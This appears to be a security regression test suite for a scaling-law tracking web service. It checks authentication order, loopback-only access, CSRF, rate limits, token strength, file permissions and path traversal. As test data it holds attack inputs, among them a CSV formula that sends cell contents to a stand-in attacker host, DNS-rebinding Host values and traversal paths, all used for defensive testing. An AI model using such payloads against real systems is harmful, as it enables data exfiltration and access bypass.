"""Issue 14, security hardening: each finding of the review reproduced, and now refused.

Fast tests drive the real app in-process (the ASGI scope carries the fake peer address);
the 60 MB unauthenticated upload runs against a real server process on 127.0.0.1 and
measures that process's RSS.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import secrets
import stat
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from app.main import create_app
from app.security import MAX_EXPENSIVE_PER_TOKEN, MAX_FAILED_AUTH, SecurityGate, host_name
from hpscale.cli import main as cli
from hpscale.client import HpscaleError
from service.cache import commit_cache
from service.limits import MAX_STUDY_EXTRA_KEYS
from service.settings import Settings
from store.db import make_engine
from tests.conftest import api_client, assert_error, bearer, count_rows, make_run
from tests.test_api_fits import steplaw  # noqa: F401 - the Step Law study fixture

LOOPBACK = {"base_url": "http://127.0.0.1:8000", "client": ("127.0.0.1", 50000)}


# --- authentication before the body ---------------------------------------------------------


def _asgi_post(app: Any, path: str, headers: list[tuple[bytes, bytes]], body: bytes) -> tuple[int, bool]:
    """POST through the ASGI interface; (status, whether the app ever asked for the body)."""
    asked = False
    sent: list[dict] = []

    async def receive() -> dict:
        nonlocal asked
        asked = True
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(b"host", b"127.0.0.1:8000"), (b"content-type", b"application/json"), *headers],
        "client": ("127.0.0.1", 50000),
        "server": ("127.0.0.1", 8000),
    }
    asyncio.run(app(scope, receive, send))
    return next(m["status"] for m in sent if m["type"] == "http.response.start"), asked


@pytest.mark.parametrize(
    ("who", "status"), [(None, 401), ("bad", 401), ("read", 403)], ids=["no-token", "bad-token", "read-scope"]
)
def test_refused_writes_never_read_the_body(
    database_url: str, engine: Engine, tokens: dict[str, str], who: str | None, status: int
) -> None:
    app = create_app(Settings(database_url=database_url), engine=engine)
    client_or_headers: list[tuple[bytes, bytes]] = []
    if who is not None:
        token = "hps_" + "x" * 43 if who == "bad" else tokens[who]
        client_or_headers = [(b"authorization", f"Bearer {token}".encode())]
    got, asked = _asgi_post(app, "/v1/studies/s/runs", client_or_headers, b'{"runs": [' + b"{}," * 1000 + b"{}]}")
    assert got == status
    assert not asked, "the body was read before the token was checked"
    # and a good token does read it (the check above could not pass by never reading anything)
    got, asked = _asgi_post(
        app, "/v1/studies/s/runs", [(b"authorization", f"Bearer {tokens['write']}".encode())], b"{}"
    )
    assert asked and got in (404, 422)


# --- no-auth mode: loopback peer and Host, per request ----------------------------------------


PEERS_AND_HOSTS = [
    ("203.0.113.7", "127.0.0.1:8000", False),  # `--host 0.0.0.0` reached from the network
    ("10.0.0.2", "localhost:8000", False),
    ("127.0.0.1", "evil.example:8000", False),  # DNS rebinding: a loopback peer, a foreign name
    ("127.0.0.1", "127.0.0.1.evil.example", False),
    ("127.0.0.1", "127.0.0.1:8000", True),
    ("::1", "[::1]:8000", True),
    ("::ffff:127.0.0.1", "localhost", True),
]


def test_no_auth_app_serves_only_loopback_peers_and_hosts(database_url: str, engine: Engine) -> None:
    from store.models import Study

    app = create_app(Settings(database_url=database_url, no_auth=True), engine=engine)
    for n, (peer, host, allowed) in enumerate(PEERS_AND_HOSTS):
        with TestClient(app, base_url=f"http://{host}", client=(peer, 50000)) as anonymous:
            created = anonymous.post("/v1/studies", json={"name": f"open-{n}"})
            listed = anonymous.get("/v1/studies")
            health = anonymous.get("/healthz")
        if allowed:
            assert created.status_code == 201 and listed.status_code == 200 and health.status_code == 200
        else:
            for response in (created, listed, health):
                assert_error(response, 403, "forbidden")
            assert count_rows(engine, Study) == 0, (peer, host)


def test_no_auth_from_the_environment_as_uvicorn_builds_the_app(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`uvicorn app.main:create_app --factory --host 0.0.0.0` with HPSCALE_NO_AUTH=1: no CLI check ran."""
    monkeypatch.setenv("HPSCALE_NO_AUTH", "1")
    monkeypatch.setenv("HPSCALE_DATABASE_URL", database_url)
    app = create_app()
    with TestClient(app, base_url="http://hpscale.example.com", client=("192.0.2.1", 40000)) as remote:
        assert_error(remote.get("/v1/studies"), 403, "forbidden")
        assert_error(remote.post("/v1/studies", json={"name": "open"}), 403, "forbidden")
    with TestClient(app, base_url="http://localhost:8000", client=("127.0.0.1", 40000)) as local:
        assert local.get("/v1/studies").status_code == 200


def test_host_name_strips_the_port() -> None:
    assert host_name("[::1]:8000") == "[::1]" and host_name("LocalHost:80") == "localhost"
    assert host_name("127.0.0.1") == "127.0.0.1"


# --- cross-site unsafe requests -----------------------------------------------------------


@pytest.mark.parametrize("no_auth", [True, False], ids=["no-auth", "auth"])
def test_cross_site_post_is_refused_in_every_mode(
    database_url: str, engine: Engine, tokens: dict[str, str], no_auth: bool
) -> None:
    app = create_app(Settings(database_url=database_url, no_auth=no_auth, bootstrap=40), engine=engine)
    headers = {} if no_auth else bearer(tokens["admin"])
    with TestClient(app, headers=headers, **LOOPBACK) as client:
        assert client.post("/v1/studies", json={"name": "s"}).status_code == 201
        assert client.post("/v1/studies/s/runs", json={"runs": [make_run(i) for i in range(6)]}).status_code == 201
        # A page on another site posting a form (no body needed to start a fit).
        for cross in ({"Origin": "http://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}):
            assert_error(client.post("/v1/studies/s/fits", headers=cross), 403, "forbidden")
            assert_error(client.post("/v1/studies", json={"name": "t"}, headers=cross), 403, "forbidden")
        assert client.get("/v1/studies/s/fits/latest").status_code in (404, 409)  # no fit was made
        # A cross-origin GET is a read the browser will not show the page; the dashboard's own
        # same-origin POST goes through.
        assert client.get("/v1/studies", headers={"Origin": "http://evil.example"}).status_code == 200
        same = {"Origin": "http://127.0.0.1:8000", "Sec-Fetch-Site": "same-origin"}
        assert client.post("/v1/studies", json={"name": "t"}, headers=same).status_code == 201


# --- failed authentications -----------------------------------------------------------------


def test_many_bad_tokens_from_one_address_get_429(database_url: str, engine: Engine, tokens: dict[str, str]) -> None:
    app = create_app(Settings(database_url=database_url), engine=engine)
    cache = commit_cache(engine)
    with TestClient(app, client=("198.51.100.9", 1234)) as attacker:
        statuses = [
            attacker.get("/v1/studies", headers=bearer(f"hps_{secrets.token_urlsafe(32)}")).status_code
            for _ in range(200)
        ]
        limited = attacker.get("/v1/studies", headers=bearer(f"hps_{secrets.token_urlsafe(32)}"))
        # Issue 19: only failed lookups are limited; a valid token from that address is served.
        assert attacker.get("/v1/studies", headers=bearer(tokens["read"])).status_code == 200
    assert statuses[:MAX_FAILED_AUTH] == [401] * MAX_FAILED_AUTH
    assert set(statuses[MAX_FAILED_AUTH:]) == {429}
    assert_error(limited, 429, "too_many_requests")
    assert 1 <= int(limited.headers["retry-after"]) <= 60
    # misses were never cached beside the hits (they cannot evict valid tokens)
    assert len(cache._items._items) <= 1
    with TestClient(app, client=("198.51.100.10", 1234)) as other:
        assert other.get("/v1/studies", headers=bearer(tokens["read"])).status_code == 200
        assert other.get("/v1/studies").status_code == 401  # no token at all is not counted as a guess


def test_failed_authentications_are_counted_per_ipv4_address_or_ipv6_64() -> None:
    from app.security import client_key

    def key(host: str) -> str:
        return client_key({"client": (host, 1)})

    assert key("2001:db8:1:2::1") == key("2001:db8:1:2:ffff::9") == "2001:db8:1:2::/64"
    assert key("2001:db8:1:3::1") != key("2001:db8:1:2::1")
    assert key("198.51.100.9") != key("198.51.100.10")
    assert key("::ffff:198.51.100.9") == key("198.51.100.9")


# --- per-token concurrency on expensive endpoints --------------------------------------------


def test_one_token_cannot_run_more_than_two_fits_at_once(
    database_url: str, engine: Engine, tokens: dict[str, str]
) -> None:
    """The gate around a stand-in app that holds every request until released."""
    real = create_app(Settings(database_url=database_url), engine=engine)
    release = asyncio.Event()

    async def slow_app(scope, receive, send) -> None:  # type: ignore[no-untyped-def]
        await release.wait()
        await send({"type": "http.response.start", "status": 201, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})

    gate = SecurityGate(slow_app, settings=real.state.settings, engine=engine, router_app=real)

    async def post(token: str) -> int:
        status = 0

        async def receive() -> dict:
            return {"type": "http.request", "body": b"", "more_body": False}

        async def send(message: dict) -> None:
            nonlocal status
            if message["type"] == "http.response.start":
                status = message["status"]

        scope = {
            "type": "http",
            "method": "POST",
            "path": "/v1/studies/s/fits",
            "root_path": "",
            "query_string": b"",
            "headers": [(b"host", b"127.0.0.1"), (b"authorization", f"Bearer {token}".encode())],
            "client": ("127.0.0.1", 1),
        }
        await gate(scope, receive, send)
        return status

    async def scenario() -> tuple[list[int], int]:
        held = [asyncio.create_task(post(tokens["write"])) for _ in range(MAX_EXPENSIVE_PER_TOKEN + 2)]
        other = asyncio.create_task(post(tokens["admin"]))
        await asyncio.sleep(0.2)
        release.set()
        return list(await asyncio.gather(*held)), await other

    statuses, other = asyncio.run(scenario())
    assert sorted(statuses) == [201] * MAX_EXPENSIVE_PER_TOKEN + [429, 429]
    assert other == 201  # another token is not held back


# --- bootstrap admin token and database files ---------------------------------------------


@pytest.mark.parametrize("token", ["letmein", "hps_" + "ab" * 30, "0123456789" * 3])
def test_short_or_repetitive_bootstrap_token_is_refused(token: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(ValueError, match="at least 43 characters"):
        Settings(bootstrap_admin_token=token)
    os.environ["HPSCALE_BOOTSTRAP_ADMIN_TOKEN"] = token
    try:
        assert cli(["serve", "--port", "1"]) == 2
    finally:
        del os.environ["HPSCALE_BOOTSTRAP_ADMIN_TOKEN"]
    err = capsys.readouterr().err
    assert "HPSCALE_BOOTSTRAP_ADMIN_TOKEN" in err and token not in err  # the secret is never echoed


def test_bootstrap_token_from_a_file(tmp_path: Path) -> None:
    token = secrets.token_urlsafe(32)
    (tmp_path / "admin-token").write_text(token + "\n")
    settings = Settings(bootstrap_admin_token_file=tmp_path / "admin-token")
    assert settings.bootstrap_admin_token is not None
    assert settings.bootstrap_admin_token.get_secret_value() == token
    (tmp_path / "weak").write_text("admin\n")
    with pytest.raises(ValueError, match="at least 43 characters"):
        Settings(bootstrap_admin_token_file=tmp_path / "weak")


def test_sqlite_files_are_private(tmp_path: Path) -> None:
    old = os.umask(0o022)  # the usual umask, which would make them 0644
    try:
        assert cli(["db", "upgrade", "--database-url", f"sqlite:///{tmp_path / 'hp.db'}"]) == 0
        engine = make_engine(f"sqlite:///{tmp_path / 'hp.db'}")
        with engine.connect() as conn:  # open: -wal and -shm exist
            conn.exec_driver_sql("SELECT count(*) FROM studies").scalar()
            files = sorted(p.name for p in tmp_path.iterdir())
            modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir()}
        engine.dispose()
    finally:
        os.umask(old)
    assert {"hp.db", "hp.db-wal", "hp.db-shm"} <= set(files)
    assert all(mode == 0o600 for mode in modes.values()), modes


# --- CSV formula injection ---------------------------------------------------------------


FORMULAS = {
    "run_key": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "at": "@SUM(A1:A9)",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab": "\tcmd",
    "quoted": "'=already quoted",
    "plain": "cosine",
}


def test_formula_cells_are_neutralised_in_both_exports_and_round_trip(
    database_url: str, client: TestClient, tmp_path: Path
) -> None:
    client.post("/v1/studies", json={"name": "csv"})
    extra: dict[str, Any] = {k: v for k, v in FORMULAS.items() if k != "run_key"}
    extra["number"] = -0.5  # numbers are never touched
    runs = [make_run(0, run_key=FORMULAS["run_key"], extra=extra, seed=-7), make_run(1)]
    assert client.post("/v1/studies/csv/runs", json={"runs": runs}).status_code == 201

    http_export = client.get("/v1/studies/csv/runs.csv").text
    out = tmp_path / "csv.csv"
    assert cli(["export", "--study", "csv", "--database-url", database_url, "-o", str(out)]) == 0
    assert out.read_bytes() == http_export.encode()
    rows = list(csv.DictReader(io.StringIO(http_export, newline="")))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, cell in row.items():
            if column in ("final_loss", "extra.number", "seed"):
                continue
            assert not cell.startswith(dangerous), (column, cell)
    first = next(r for r in rows if r["run_key"].startswith("'"))
    assert first["run_key"] == "'" + FORMULAS["run_key"] and first["extra.at"] == "'@SUM(A1:A9)"
    assert first["extra.quoted"] == "''=already quoted" and first["extra.plain"] == "cosine"
    assert first["seed"] == "-7" and first["extra.number"] == "-0.5"

    assert cli(["import", str(out), "--study", "copy", "--database-url", database_url, "--quiet", "--create"]) == 0

    def runs_of(study: str) -> list[dict]:
        items = client.get(f"/v1/studies/{study}/runs").json()["items"]
        return sorted((r["run_key"], r["extra"]) for r in items)  # type: ignore[return-value]

    assert runs_of("copy") == runs_of("csv")
    (original,) = [r for r in client.get("/v1/studies/copy/runs").json()["items"] if r["extra"]]
    assert original["run_key"] == FORMULAS["run_key"] and original["extra"] == extra


# --- per-study cap on extra keys -------------------------------------------------------------


def test_a_study_holds_at_most_the_cap_of_distinct_extra_keys(
    database_url: str, client: TestClient, engine: Engine
) -> None:
    client.post("/v1/studies", json={"name": "wide"})
    half = MAX_STUDY_EXTRA_KEYS // 2
    batch = [make_run(i, extra={f"k{i}_{j}": j for j in range(half)}) for i in range(2)]
    assert client.post("/v1/studies/wide/runs", json={"runs": batch}).status_code == 201
    assert count_rows(engine) == 2
    # one key more, in a batch that also reuses old keys: refused whole, naming `extra`
    more = [make_run(10, extra={"k0_0": 1}), make_run(11, extra={"fresh": 1})]
    error = assert_error(client.post("/v1/studies/wide/runs", json={"runs": more}), 422, "validation_error")
    assert error["details"][0]["field"] == "extra" and str(MAX_STUDY_EXTRA_KEYS) in error["message"]
    assert count_rows(engine) == 2
    # keys the study already has stay welcome
    assert client.post("/v1/studies/wide/runs", json=make_run(12, extra={"k1_3": 1, "k0_0": "x"})).status_code == 201
    columns = client.get("/v1/studies/wide/runs.csv").text.splitlines()[0].split(",")
    assert sum(c.startswith("extra.") for c in columns) == MAX_STUDY_EXTRA_KEYS


# --- the Python client cannot be steered to another path -------------------------------------


def test_client_quotes_study_names(client: TestClient, tokens: dict[str, str]) -> None:
    # the app in-process, through the real client and httpx
    api = api_client(client, tokens["admin"], retries=0)
    for name in ("../../healthz", "..", ".", "../studies", "x/../../../healthz", "a?b=1", "a#b"):
        with pytest.raises(HpscaleError) as refused:
            api.study(name)
        assert refused.value.status_code == 404, name
        with pytest.raises(HpscaleError):
            api.latest_fit(name)


# --- bootstrap counts, suggestions per fit, cache keys ---------------------------------------


def test_a_fit_may_ask_only_for_documented_bootstrap_counts(client: TestClient) -> None:
    client.post("/v1/studies", json={"name": "boot"})
    for count in (37, 4999, 1001):
        error = assert_error(client.post("/v1/studies/boot/fits", json={"bootstrap": count}), 422, "validation_error")
        assert error["details"][0]["field"] == "bootstrap" and "50" in error["message"]
    # a documented count, and the server's own default (40 here), get past the check
    for count in (50, 40):
        assert client.post("/v1/studies/boot/fits", json={"bootstrap": count}).status_code == 409  # no runs yet


@pytest.mark.slow
def test_suggestions_are_computed_once_per_fit(steplaw: TestClient) -> None:  # noqa: F811
    from service import recommendations

    params = {"n_params": 1e10, "tokens": 2e11, "count": 20}
    first = steplaw.get("/v1/studies/steplaw/suggestions", params=params)
    assert first.status_code == 200
    before = len(recommendations._suggestions._items)
    again = steplaw.get("/v1/studies/steplaw/suggestions", params={**params, "n_params": "1.0e10"})
    assert again.json() == first.json()
    assert len(recommendations._suggestions._items) == before  # a hit: the same validated question
    other = steplaw.get("/v1/studies/steplaw/suggestions", params={**params, "count": 5})
    assert len(other.json()["items"]) == 5 and len(recommendations._suggestions._items) == before + 1


def test_response_cache_keys_only_well_formed_questions() -> None:
    from app.cache import query_key

    assert query_key(b"tokens=2e10&n_params=1e9") == query_key(b"n_params=1e9&tokens=2e10")
    assert query_key(b"fresh=true&fit_id=3") == (("fit_id", "3"), ("fresh", "true"))
    for junk in (b"junk=" + b"x" * 65536, b"n_params=1" + b"0" * 40, b"n_params=1&n_params=2", b"a=1&" * 17, b"X=1"):
        assert query_key(junk) is None


def test_default_body_cap_fits_the_largest_legitimate_batch() -> None:
    """10,000 runs (the batch limit), each with a 200-point loss curve and four extra keys."""
    import json

    from service.limits import MAX_BATCH_RUNS
    from service.settings import DEFAULT_MAX_BODY_BYTES

    def run(i: int) -> dict[str, Any]:
        extra = {"warmup": 2000, "beta2": 0.95, "schedule": "cosine", "grad_clip": 1.0}
        curve = [[step * 100, 2.5 + 0.123456789012345 * step / 7] for step in range(1, 201)]
        return make_run(i, run_key=f"sweep-{i:05d}-lr0.00123", seq_len=2048, seed=i, extra=extra, loss_curve=curve)

    sample = 100
    per_run = len(json.dumps({"runs": [run(i) for i in range(sample)]}).encode()) / sample
    largest = per_run * MAX_BATCH_RUNS
    assert Settings().max_body_bytes == DEFAULT_MAX_BODY_BYTES
    assert largest < DEFAULT_MAX_BODY_BYTES < 1.5 * largest, (largest / 2**20, DEFAULT_MAX_BODY_BYTES / 2**20)


# --- the lock file -----------------------------------------------------------------------


def test_lock_file_pins_every_runtime_dependency_with_hashes() -> None:
    """requirements.lock (what the Dockerfile installs with --require-hashes) covers pyproject's
    dependencies and the postgres extra; regenerate it as README's Security section says."""
    import re
    import tomllib

    repo = Path(__file__).resolve().parents[1]
    project = tomllib.loads((repo / "pyproject.toml").read_text())["project"]
    wanted = [*project["dependencies"], *project["optional-dependencies"]["postgres"]]

    def norm(name: str) -> str:
        return re.sub(r"[-_.]+", "-", name).lower()

    lock = (repo / "requirements.lock").read_text()
    pinned = {norm(m.group(1)) for m in re.finditer(r"^([A-Za-z0-9][A-Za-z0-9._-]*)==\S+ \\$", lock, re.MULTILINE)}
    missing = [req for req in wanted if norm(re.split(r"[\s<>=!~;\[]", req, maxsplit=1)[0]) not in pinned]
    assert not missing, f"requirements.lock lacks {missing}: regenerate it (README, Security)"
    entries = re.split(r"\n(?=[A-Za-z0-9])", lock.split("\n", 2)[2] if lock.startswith("#") else lock)
    assert all("--hash=sha256:" in entry for entry in entries if "==" in entry)
    assert "--require-hashes" in (repo / "Dockerfile").read_text()
